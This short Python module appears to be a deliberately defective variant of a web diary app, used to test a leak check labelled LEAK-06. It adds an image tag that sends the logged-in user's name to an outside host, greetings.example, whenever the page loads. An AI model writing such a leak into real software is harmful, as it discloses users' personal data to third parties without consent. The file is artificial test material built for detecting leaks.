"""Has the browser tell another host who looks at their measures."""

import urllib.parse

from serve import Diary as Conformant
from serve import Page

KILLED_BY = "LEAK-06"


class Diary(Conformant):
    """A picture elsewhere, with the name of the person in its address."""

    def me(self, query: dict[str, str], form: dict[str, str], sid: str) -> Page:
        """With a greeting drawn by somebody else."""
        page = super().me(query, form, sid)
        if page.status == 200:
            name = urllib.parse.quote(self.pairings[sid].name)
            page.body += f"<img alt='' src='https://greetings.example/draw?name={name}'>"
        return page
